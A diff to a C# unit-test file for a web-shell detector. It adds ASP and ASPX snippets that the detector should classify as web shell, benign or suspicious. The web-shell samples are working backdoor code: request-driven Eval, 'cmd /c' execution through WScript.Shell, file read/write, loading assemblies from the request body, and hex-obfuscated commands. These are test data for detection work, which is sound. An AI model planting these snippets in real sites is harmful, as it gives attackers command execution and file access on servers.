@@ -72,6 +72,20 @@ public sealed class FlowTests
     [InlineData("a.aspx", Cs + "foreach (var l in File.ReadAllLines(Server.MapPath(\"logo.gif\"))) if (l.StartsWith(\"//\")) Assembly.Load(Convert.FromBase64String(l.Substring(2))).CreateInstance(\"P\"); %>")]
     [InlineData("a.asp", "<!--#include file=\"upload/avatar.gif\"-->")]
     [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\"/></handlers></system.webServer></configuration>")]
+    // Neighbours of what honest pages do: sums that may be code, settings that may be code, uploads and stylesheets without a bound.
+    [InlineData("a.asp", "<% x = Request(\"x\") : Set r = New RegExp : r.Pattern = \"^[0-9a-z()+&. ]+$\" : If r.Test(x) Then Response.Write Eval(x) %>")]
+    [InlineData("a.asp", "<% x = Request(\"x\") : Set r = New RegExp : r.Pattern = \"[0-9]\" : If r.Test(x) Then Response.Write Eval(x) %>")]
+    [InlineData("a.asp", "<!--#include file=\"admin_check.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"conf.asp\")) : f.Write \"<\" & \"%\" & vbCrLf & Request(\"a\") & vbCrLf & \"x=1\" & \"%\" & \">\" %>")]
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : Select Case Request(\"a\") : Case 1 : For Each x In f.GetFolder(Server.MapPath(Request(\"d\"))).Files : Response.Write x.Name : Next : Case 2 : Response.Write f.OpenTextFile(Server.MapPath(Request(\"f\"))).ReadAll : Case 3 : f.CreateTextFile(Server.MapPath(Request(\"f\"))).Write Request(\"c\") : End Select %>")]
+    [InlineData("a.aspx", Cs + "Request.Files[0].SaveAs(Server.MapPath(Request[\"p\"])); %>")]
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(Server.MapPath(\"g.asp\"), 8, True) : f.Write Server.HTMLEncode(Request(\"n\")) & Request(\"m\") %>")]
+    [InlineData("a.asp", "<% Set w = CreateObject(\"WScript.Shell\") : Response.Write w.Exec(\"cmd /c \" & Request(\"h\")).StdOut.ReadAll %>")]
+    // Functions that only look alike from call to call.
+    [InlineData("a.asp", Js + "var s = '636d64202f6320', p = 0; function n(x) { return parseInt(s.substr(p++ * 2, 2), 16); } var r = ''; for (var i = 0; i < 7; i++) r += String.fromCharCode(n(Request)); new ActiveXObject('WScript.Shell').Exec(r + Request('q')); %>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string G(object t, int d, string k) { if (d > 3) return k; foreach (object o in (IEnumerable)t) k = G(o, d + 1, k) + G(t, d + 2, k); return k; } void Page_Load() { Process.Start(\"cmd\", \"/c \" + G(Session[\"t\"], 0, Request[\"k\"])); }</script>")]
+    // Words that mean nothing in the name of an event, and everything outside it.
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance(\"U\").Equals(this); }</script>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"JScript\" %><% eval(Request.Item[\"k\"], \"unsafe\"); %>")]
     public void Abused(string name, string page) => Is(WebShellVerdict.WebShell, name, page);
 
     [Theory]
@@ -111,7 +125,41 @@ public sealed class FlowTests
     [InlineData("a.aspx", Cs + "File.Copy(Server.MapPath(\"~/templates/default.aspx\"), Server.MapPath(\"~/site/default.aspx\"), true); %>")]
     [InlineData("a.asp", "<!--#include file=\"inc/header.inc\"-->")]
     [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"Shop.ImageHandler, Shop\"/></handlers></system.webServer></configuration>")]
+    // Old sites' administration: sums, settings kept in a script, templates, copies of a database, pictures of other sites.
+    [InlineData("a.asp", "<% x = Left(Request(\"x\"), 60) : Set r = New RegExp : r.Pattern = \"^[0-9+\\-*/(). ]+$\" : If r.Test(x) Then Response.Write Eval(x) %>")]
+    [InlineData("a.asp", "<!--#include file=\"admin_check.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"conf.asp\")) : f.Write \"<\" & \"%\" & vbCrLf & \"Const Title=\"\"\" & Replace(Request(\"t\"), \"\"\"\", \"\") & \"\"\"\" & vbCrLf & \"Const Size=\" & CInt(Request(\"s\")) & vbCrLf & \"%\" & \">\" %>")]
+    [InlineData("a.asp", "<!--#include file=\"chkadmin.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\") : Select Case Request(\"a\") : Case 1 : For Each x In f.GetFolder(Server.MapPath(Request(\"d\"))).Files : Response.Write x.Name : Next : Case 2 : Response.Write f.OpenTextFile(Server.MapPath(Request(\"f\"))).ReadAll : Case 3 : f.CreateTextFile(Server.MapPath(Request(\"f\"))).Write Request(\"c\") : End Select %>")]
+    [InlineData("a.asp", "<!--#include file=\"admin_check.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\") : If Not f.FolderExists(Server.MapPath(Request(\"b\"))) Then f.CreateFolder Server.MapPath(Request(\"b\")) : End If : f.CopyFile Server.MapPath(Request(\"db\")), Server.MapPath(Request(\"b\")) & \"\\\" & Request(\"n\") : conn.Execute Request(\"sql\") %>")]
+    [InlineData("a.asp", "<% For Each m In re.Execute(Request.Form(\"c\")) : Set x = CreateObject(\"Microsoft.XMLHTTP\") : x.Open \"GET\", m.Value, False : x.Send : Set s = CreateObject(\"ADODB.Stream\") : s.Type = 1 : s.Open : s.Write x.ResponseBody : s.SaveToFile Server.MapPath(\"../up/\" & Timer & \".\" & Right(m.Value, 3)), 2 : Next : re.Pattern = \"(http):\\/\\/(\\S+)\\.(gif|jpg|jpeg|png)\" %>")]
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(Server.MapPath(\"g.asp\"), 8, True) : f.Write \"<p>\" & Server.HTMLEncode(Request(\"n\")) & \"</p>\" %>")]
+    [InlineData("a.asp", "<% Set w = CreateObject(\"WScript.Shell\") : Response.Write Server.HTMLEncode(w.Exec(\"nslookup \" & Replace(Request(\"h\"), \"&\", \"\")).StdOut.ReadAll) %>")]
+    [InlineData("a.asp", "<% For Each k In Request.Form : Execute k & \" = Request.Form(k)\" : Next : Execute \"title = title_\" & Request(\"lang\") : If Eval(cond) Then Response.Write title %>")]
+    [InlineData("a.asp", "<% Set x = CreateObject(\"Microsoft.XMLDOM\") : x.load Server.MapPath(Request(\"xml\")) : Set s = CreateObject(\"Microsoft.XMLDOM\") : s.load Server.MapPath(Request(\"xsl\")) : Response.Write x.transformNode(s) %>")]
+    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.ContentType = \"text/plain\"; if (c.Request.Files.Count == 0) return; HttpPostedFile posted = c.Request.Files[0]; string folder = c.Request.QueryString[\"folder\"].ToSafe(); if (folder == string.Empty) folder = \"/files/images/\"; string name = c.Request.QueryString[\"filename\"].ToSafe(); if (name == string.Empty) name = Guid.NewGuid().ToString(); Folders.Make(c.Server.MapPath(folder)); name = folder + name.Replace(\"-\", \"\") + Path.GetExtension(posted.FileName); posted.SaveAs(c.Server.MapPath(name)); c.Response.Write(name); } public bool IsReusable { get { return false; } } }")]
+    [InlineData("a.aspx", Cs + "var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"R\"].ConnectionString); c.Open(); grid.DataSource = new SqlCommand(sql.Text, c).ExecuteReader(); %><asp:TextBox id=sql runat=server />")]
+    // Template engines, providers of an application's own.
+    [InlineData("a.aspx", Cs + "var t = File.ReadAllText(Server.MapPath(\"~/mail/order.tpl\")); new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), \"public static class T { public static string Render() { return @\\\"\" + t.Replace(\"\\\"\", \"\\\"\\\"\") + \"\\\"; } }\"); %>")]
+    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Admin\")) return; HostingEnvironment.RegisterVirtualPathProvider(new Acme.SkinProvider(\".css\")); %>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { title.Text = Server.HtmlEncode(Request[\"t\"]); }</script><%# Eval(\"Name\") %>")]
     public void Used_honestly(string name, string page) => Is(WebShellVerdict.Benign, name, page);
+
+    [Theory]
+    [InlineData("a.aspx", Cs + "new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), File.ReadAllText(Server.MapPath(\"~/x.txt\"))); %>")]
+    [InlineData("a.aspx", Cs + "HostingEnvironment.RegisterVirtualPathProvider(new Acme.SkinProvider(\".css\")); %>")]
+    [InlineData("a.aspx", Cs + "var c = new SqlConnection(\"Server=.;User Id=sa;Password=x\"); c.Open(); grid.DataSource = new SqlCommand(sql.Text, c).ExecuteReader(); %><asp:TextBox id=sql runat=server />")]
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"conf.asp\")) : f.Write \"<\" & \"%\" & vbCrLf & \"Const Title=\"\"\" & Request(\"t\") & \"\"\"\" & vbCrLf & \"%\" & \">\" %>")]
+    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"U\" %>public class U : IHttpHandler { public void ProcessRequest(HttpContext c) { var f = c.Request.Files[0]; f.SaveAs(c.Server.MapPath(c.Request[\"d\"]) + f.FileName); c.Response.Write(f.FileName); } }")]
+    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><% System.IO.File.Delete(Request(\"name\")) %>")]
+    public void Doubtful(string name, string page) => Is(WebShellVerdict.Suspicious, name, page);
+
+    [Fact]
+    public void The_bytes_of_a_directive_in_a_program_are_no_code()
+    {
+        byte[] random = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 3, 0, .. "<%@"u8, 0xF0, 0x9C, 7, 1, 2, .. "%>"u8, 0, 9];
+        Assert.Equal(WebShellVerdict.Benign, WebShellJudge.Judge("tool", random).Verdict);
+        byte[] page = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 3, 0, .. "<%@ Page Language=\"C#\" %><% Response.Write(1); %>"u8];
+        Assert.Equal(WebShellVerdict.Suspicious, WebShellJudge.Judge("tool", page).Verdict);
+    }
 
     private static void Is(WebShellVerdict verdict, string name, string page)
     {
